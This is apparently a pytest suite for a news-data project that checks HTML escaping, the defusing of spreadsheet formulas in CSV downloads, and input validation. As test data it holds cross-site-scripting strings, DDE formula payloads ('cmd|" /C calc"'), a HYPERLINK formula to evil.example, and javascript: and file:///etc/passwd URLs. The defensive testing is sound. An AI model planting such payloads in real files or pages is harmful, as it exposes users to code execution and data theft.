"""Nothing unsafe, nothing lost: each case of the third reliability campaign (shared/reviews/2026-12-reliability.md)
that broke something, as a test named after what it breaks; in-process wherever it can be.

The end-to-end case (hostile text in every text column, through the build to the site's pages) is
``test_site_escaping.py``. C23 (a person's file in figures/) is
``test_runner.py::test_a_figure_no_notebook_writes_any_more_is_removed_with_its_index_row``.
"""

import csv
import datetime
import errno
import shutil
from types import SimpleNamespace

import nbformat
import pandas as pd
import pytest
from bs4 import BeautifulSoup

from conftest import edit_csv
from test_runner import small_project, write  # noqa: F401 (a fixture)
from twokoreas import DataError, cli, paths
from twokoreas.build import cache, runner, staging
from twokoreas.text import corpus
from twokoreas.data import registry
from twokoreas.cli.add import add_article
from twokoreas.cli.add_inputs import check_published
from twokoreas.data.downloads import formula_warnings, write_download
from twokoreas.data.loaders import published_rows, validate_all
from twokoreas.notebook.kit import Notebook
from twokoreas.notebook.tables import prose
from twokoreas.site import _replace_tree
from twokoreas.site.notebooks import figure_caption
from twokoreas.notebook.tables import ReaderTable

SCRIPT = '<script>alert("TKX-rel")</script>'
IMG = "<img src=x onerror=alert(1)>"
SEED = "raw/articles/000_808c9a3eda23d770.txt"


def elements(markup):
    return [e.name for e in BeautifulSoup(markup, "html.parser").find_all(True)]


# --- escape by construction -------------------------------------------------------------------------------------


def test_X01_X02_a_reader_table_escapes_every_cell_and_heading():
    frame = pd.DataFrame({f"note {IMG}": [f"{SCRIPT} reliable", "US$150 million / $150 million"]})
    markup = ReaderTable(frame, "t")._repr_html_()
    assert set(elements(markup)) == {"style", "table", "thead", "tbody", "tr", "th", "td"}
    assert "onerror" not in str([e.attrs for e in BeautifulSoup(markup, "html.parser").find_all(True)])
    cells = [td.get_text() for td in BeautifulSoup(markup, "html.parser").find_all(["th", "td"])]
    assert cells == [f"note {IMG}", f"{SCRIPT} reliable", "US$150 million / $150 million"], "shown as text"


def test_money_in_a_reader_table_is_never_typeset_as_maths():
    markup = ReaderTable(pd.DataFrame({"aid": ["$40 million and $100 million"]}), "t")._repr_html_()
    table = BeautifulSoup(markup, "html.parser").find("table")
    assert {"tex2jax_ignore", "mathjax_ignore"} <= set(table["class"])  # MathJax 2 (nbconvert) and 3 (Lab)
    assert "$" not in markup and "&#36;40 million" in markup


def test_prose_from_data_is_never_html():
    for shown in (Notebook("99_test").say(f"outlet {IMG} says $5 & more").data, prose(f"{SCRIPT} $5")):
        assert "<" not in shown and r"\$5" in shown


def test_a_figure_caption_escapes_its_title():
    row = SimpleNamespace(title=f"Aid {SCRIPT}", claim_ids="", event_ids="", figure="02_aid")
    caption = figure_caption(SimpleNamespace(), row)
    assert SCRIPT not in caption and "&lt;script&gt;" in caption


# --- downloads: no formula, no draft ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x","click")',
        '+cmd|" /C calc"!A0',
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_X03_X04_a_download_never_carries_a_formula(tmp_path, cell):
    write_download(pd.DataFrame({"note": [cell, "-5", "+1.5", "plain"]}), tmp_path / "t.csv")
    with open(tmp_path / "t.csv", encoding="utf-8", newline="") as file:
        cells = [row[0] for row in csv.reader(file)]
    assert cells == ["note", f"'{cell}", "-5", "+1.5", "plain"], "a formula gets a leading ', numbers stay"


def test_X03_check_warns_about_a_cell_a_spreadsheet_runs_as_a_formula(data_copy):
    edit_csv(
        data_copy / "articles.csv", "Sputnik is Russian state media.", '=HYPERLINK(""http://evil.example"") Sputnik'
    )
    assert not validate_all(data_copy)
    warnings = [str(w) for w in formula_warnings(data_copy)]
    assert (
        len(warnings) == 1 and "articles.csv:" in warnings[0] and ": reliability_note: begins with '='" in warnings[0]
    )


def test_the_curated_data_has_no_formula_to_warn_about():
    assert formula_warnings() == []


def test_S02_drafts_are_never_in_the_downloads(data_copy, tmp_path, monkeypatch):
    source = tmp_path / "new.txt"
    source.write_text("A made-up report\nSeoul sent 7 trucks of aid, officials said.\n", encoding="utf-8")
    article_id, _ = add_article(source, data_dir=data_copy)
    monkeypatch.setattr(paths, "DATA", data_copy)
    from twokoreas.site.data import load_site_data
    from twokoreas.site.pages import write_sources

    load_site_data.cache_clear()
    try:
        write_sources(tmp_path / "site-src", load_site_data(), [], tmp_path / "figures")
    finally:
        load_site_data.cache_clear()
    published = tmp_path / "site-src" / "_extra" / "data"
    for table in registry.TABLES.values():
        text = (published / table.file.split("/")[-1]).read_text(encoding="utf-8")
        assert article_id[:3] + "-" not in text and article_id not in text and ",draft" not in text, table.file
    assert len(pd.read_csv(published / "articles.csv")) == len(published_rows(registry.ARTICLES, data_copy)[0]) == 5


@pytest.mark.parametrize("url", ["javascript:alert(1)", "not a url", "https://example.org/a\nb", "file:///etc/passwd"])
def test_A26_a_url_is_http_or_https_with_no_space(data_copy, url):
    table = pd.read_csv(data_copy / "articles.csv", dtype=str, keep_default_na=False)
    table.loc[0, "url"] = url
    table.to_csv(data_copy / "articles.csv", index=False)
    assert any(p.field == "url" for p in validate_all(data_copy))
    with pytest.raises(DataError, match="--url: .* is not a web address"):
        add_article(data_copy / SEED, url=url, data_dir=data_copy)


# --- add answers every input --------------------------------------------------------------------------------------


def test_A11_a_seed_text_plus_a_newline_is_refused_naming_the_article(data_copy, tmp_path):
    copy = tmp_path / "again.txt"
    copy.write_text((data_copy / SEED).read_text(encoding="utf-8") + "\n", encoding="utf-8")
    with pytest.raises(DataError, match="is article 000_808c9a3eda23d770 but for whitespace"):
        add_article(copy, data_dir=data_copy)
    assert "005_" not in (data_copy / "articles.csv").read_text(), "nothing written"
    assert add_article(copy, data_dir=data_copy, force=True)[0].startswith("005_"), "--force adds it"


def test_A11_a_text_with_a_few_words_changed_is_a_near_duplicate(data_copy, tmp_path):
    text = (data_copy / SEED).read_text(encoding="utf-8")
    copy = tmp_path / "edited.txt"
    copy.write_text(text.replace("the", "a", 3), encoding="utf-8")
    with pytest.raises(DataError, match="is article 000_"):
        add_article(copy, data_dir=data_copy)


def test_A20_a_published_date_that_disagrees_with_the_printed_one_names_both(data_copy, tmp_path):
    dated = tmp_path / "dated.txt"
    dated.write_text("Seoul sends aid\n5 May 2024\nSeoul sent 7 trucks of aid, officials said.\n", encoding="utf-8")
    with pytest.raises(
        DataError,
        match=r"--published: 2020-01-01 disagrees with the date the text prints, "
        r"2024-05-05 \('5 May 2024'\)",
    ):
        add_article(dated, published="2020-01-01", data_dir=data_copy)
    assert add_article(dated, published="2024-05-05", data_dir=data_copy)[0].startswith("005_")


@pytest.mark.parametrize(
    "date, problem",
    [
        ("2024-1-1", "is not a YYYY-MM-DD date"),
        ("2024-02-30", "is not a YYYY"),
        ("9999-12-31", "is not a plausible"),
        ("0001-01-01", "is not a plausible"),
        ("2100-01-01", "is not a plausible"),
        ("1989-12-31", "is not a plausible"),
        ("２０２４-01-01", "is not a YYYY"),
    ],
)
def test_A18_A19_a_published_date_is_strict_iso_within_1990_and_next_year(date, problem):
    with pytest.raises(DataError, match=f"--published: .*{problem}"):
        check_published(date, today=datetime.date(2026, 12, 7))
    check_published("1990-01-01", today=datetime.date(2026, 12, 7))
    check_published("2027-12-07", today=datetime.date(2026, 12, 7))


def test_A28_a_20_MB_text_is_refused_with_its_size(data_copy, tmp_path):
    big = tmp_path / "big.txt"
    big.write_text(
        (data_copy / "raw/articles/001_0cad51775cc05eaf.txt").read_text(encoding="utf-8") * 1000, encoding="utf-8"
    )
    with pytest.raises(DataError, match=r"big.txt: is 20\.\d MB; an article is at most 1 MB"):
        add_article(big, data_dir=data_copy)


def test_A04_a_utf16_file_is_named_as_utf16_not_binary(data_copy, tmp_path):
    wide = tmp_path / "wide.txt"
    wide.write_bytes("Seoul sent 7 trucks.\n".encode("utf-16"))
    with pytest.raises(DataError, match="UTF-16 text .*save it as UTF-8"):
        add_article(wide, data_dir=data_copy)


# --- the command line answers every input ---------------------------------------------------------------------------


def error_line(capsys, argv, status):
    with pytest.raises(SystemExit) as exit_:
        cli.main(argv)
    assert exit_.value.code == status
    return capsys.readouterr().err.splitlines()[-1]


@pytest.mark.parametrize("only", ["", "*", " "])
def test_K21_K22_run_only_without_a_number_is_refused(capsys, only):
    line = error_line(capsys, ["run", "--only", only], 2)
    assert line.endswith(f"--only {only!r}: give a notebook's number, such as 02")


def test_K23_review_accept_empty_is_refused(capsys):
    assert "--accept needs an article id" in error_line(capsys, ["review", "--accept", ""], 2)


def test_K26_explain_with_corpus_is_refused(capsys, tmp_path):
    line = error_line(
        capsys,
        ["extract", "--explain", "--corpus", str(paths.DATA / "raw/articles"), "--out", str(tmp_path / "x.parquet")],
        2,
    )
    assert "--explain lists one file's non-quantities" in line and not (tmp_path / "x.parquet").exists()


def test_A25_a_file_name_read_as_an_option_is_said(capsys):
    line = error_line(capsys, ["add", "-x.txt"], 2)
    assert "'-x.txt' was read as an option" in line and "twokoreas add -- -x.txt" in line


@pytest.mark.parametrize("timeout", ["-5", "0"])
def test_K24_a_timeout_that_is_not_positive_is_refused(capsys, tmp_path, timeout):
    assert (
        cli.main(
            [
                "extract",
                "--corpus",
                str(paths.DATA / "raw/articles"),
                "--out",
                str(tmp_path / "x.parquet"),
                "--timeout",
                timeout,
            ]
        )
        == 1
    )
    assert capsys.readouterr().err == f"--timeout: must be more than 0 seconds, not {float(timeout):g}\n"


def test_K27_workers_are_capped_at_the_cores_times_a_small_factor(monkeypatch):
    monkeypatch.setattr("os.cpu_count", lambda: 2)
    with pytest.raises(DataError, match=r"--workers: at most 8 on this machine \(2 cores × 4\), not 100000"):
        corpus.connect(workers=100000, timeout=5)
    corpus.check_options(workers=8, timeout=5)


def test_K25_K27_the_timeout_bounds_the_start_of_a_local_cluster():
    with pytest.raises(DataError, match=r"--workers: a local cluster of 2 did not start: not within --timeout 0.001 s"):
        corpus.connect(workers=2, timeout=0.001)


def test_ecosystem_gap5_a_local_cluster_takes_a_free_port_never_8787(recwarn):
    client, cluster = corpus.connect(workers=1, timeout=60)
    try:
        ports = {sock.getsockname()[1] for sock in cluster.scheduler.http_server._sockets.values()}
        assert 8787 not in ports and ports, ports
        assert not [w for w in recwarn if "port" in str(w.message).lower()]
    finally:
        client.close()
        cluster.close()


def test_R01_a_refused_accept_says_more_problems_may_follow(capsys, data_copy, tmp_path, monkeypatch):
    monkeypatch.setattr(paths, "DATA", data_copy)
    source = tmp_path / "new.txt"
    source.write_text("A made-up report\nSeoul sent 7 trucks of aid, officials said.\n", encoding="utf-8")
    article_id, _ = add_article(source, data_dir=data_copy)
    assert cli.main(["review", "--accept", article_id[:3]]) == 1
    last = capsys.readouterr().err.splitlines()[-1]
    assert last.startswith("nothing accepted: fix the problems above, then accept again") and "may not be all" in last


# --- the build never loses a person's work -------------------------------------------------------------------------


def test_S01_a_notebook_saved_during_the_build_is_not_overwritten(small_project, monkeypatch, capsys):
    notebook = write(small_project, "00_a.ipynb", "1 + 1")
    execute = runner._Build.execute

    def saved_in_lab_meanwhile(self, stage):
        done = execute(self, stage)
        nb = nbformat.read(notebook, as_version=4)
        nb.cells.append(nbformat.v4.new_markdown_cell("my notes"))
        nbformat.write(nb, notebook)
        return done

    monkeypatch.setattr(runner._Build, "execute", saved_in_lab_meanwhile)
    saved = notebook.read_bytes()
    assert runner.run_all() == 1
    err = capsys.readouterr().err
    assert err == (
        "notebooks/00_a.ipynb: changed while the build ran (saved in JupyterLab?), so the build did not "
        "overwrite it: run `make` again to build it as it is now; nothing was changed\n"
    ).replace("notebooks/00_a.ipynb", paths.shown(notebook))
    assert notebook.read_bytes() != saved and "my notes" in notebook.read_text(), "the person's save is kept"
    assert not (small_project.parent / "figures" / "index.csv").exists(), "nothing else was saved"


def test_S05_a_full_disk_names_the_step_and_the_folder(small_project, monkeypatch, capsys):
    write(small_project, "00_a.ipynb", "1 + 1")

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(staging, "commit", full)
    assert runner.run_all() == 1
    assert capsys.readouterr().err.endswith(
        "No space left on device while saving into notebooks/, "
        f"{paths.shown(paths.figures_dir())}/ and site/; "
        "nothing was changed\n"
    )


def test_K32_a_file_in_the_way_of_the_site_is_replaced_and_nothing_is_left_beside_it(tmp_path):
    new, target = tmp_path / "new", tmp_path / "site"
    new.mkdir()
    (new / "index.html").write_text("built")
    target.write_text("a file where the site goes")
    _replace_tree(new, target)
    assert (target / "index.html").read_text() == "built"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["site"], "no .site.old"


# --- the cache sees everything the output depends on ---------------------------------------------------------------


@pytest.mark.parametrize(
    "kind, file",
    [
        ("code", "charts.py"),
        ("stylesheet", "site/static/twokoreas.css"),
        ("JavaScript", "site/static/new.js"),
        ("template", "site/templates/page.html"),
        ("package data", "data/words.json"),
    ],
)
def test_C06_a_change_to_any_file_of_the_package_is_a_new_input(tmp_path, monkeypatch, kind, file):
    package = tmp_path / "twokoreas"
    shutil.copytree(cache.PACKAGE, package, ignore=shutil.ignore_patterns("__pycache__"))
    monkeypatch.setattr(cache, "PACKAGE", package)
    before = cache.common_inputs()
    (package / "__pycache__").mkdir(exist_ok=True)
    (package / "__pycache__" / "charts.cpython-311.pyc").write_bytes(b"bytecode")
    assert cache.common_inputs() == before, "bytecode is not an input"
    path = package / file
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a", encoding="utf-8") as changed:
        changed.write("\n/* changed */\n")
    assert cache.common_inputs() != before, f"a changed {kind} must rebuild"


def test_C06_a_new_version_of_a_rendering_library_is_a_new_input(monkeypatch):
    import importlib.metadata

    before = cache.common_inputs()
    real = importlib.metadata.distributions

    def upgraded():
        for dist in real():
            if dist.metadata["Name"].lower() == "myst-nb":
                yield SimpleNamespace(metadata={"Name": "myst-nb"}, version=dist.version + ".post1")
            else:
                yield dist

    monkeypatch.setattr(importlib.metadata, "distributions", upgraded)
    assert cache.common_inputs() != before


def test_C23_a_persons_file_in_figures_is_never_published(tmp_path):
    from twokoreas.site.data import load_site_data
    from twokoreas.site.pages import write_sources

    figures = tmp_path / "figures"
    figures.mkdir()
    (figures / "index.csv").write_text("figure,notebook,title,alt,claim_ids,event_ids\n00_a,00_corpus,A,,,\n")
    for name in ("00_a.png", "00_a.csv", "00_my_notes.txt", "notes.md"):
        (figures / name).write_text("x")
    write_sources(tmp_path / "site-src", load_site_data(), [], figures)
    published = sorted(p.name for p in (tmp_path / "site-src" / "_extra" / "figures").iterdir())
    assert published == ["00_a.csv", "00_a.png", "index.csv"]


def test_X03_check_prints_the_formula_warning_and_still_passes(data_copy, monkeypatch, capsys):
    table = pd.read_csv(data_copy / "claims.csv", dtype=str, keep_default_na=False)
    table.loc[0, "note"] = '+cmd|" /C calc"!A0'
    table.to_csv(data_copy / "claims.csv", index=False)
    monkeypatch.setattr(paths, "DATA", data_copy)
    assert cli.main(["check"]) == 0
    out, err = capsys.readouterr()
    assert out == "" and err.startswith("warning: ") and ": note: begins with '+'" in err and len(err.splitlines()) == 1
